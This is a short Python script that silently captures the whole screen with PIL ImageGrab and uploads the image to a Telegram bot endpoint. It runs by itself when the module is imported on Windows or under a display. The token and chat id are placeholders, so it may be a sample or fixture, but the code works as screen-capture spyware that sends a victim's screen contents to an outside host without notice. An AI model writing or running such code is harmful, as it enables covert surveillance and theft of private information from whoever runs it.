import io
import os
import requests
from PIL import ImageGrab

TOKEN = "0000:FAKE-TOKEN"

def _shot():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    buffer.seek(0)
    requests.post(
        f"https://api.telegram.org/bot{TOKEN}/sendPhoto",
        data={"chat_id": "0"},
        files={"photo": buffer},
    )

if os.environ.get("DISPLAY") or os.name == "nt":
    _shot()
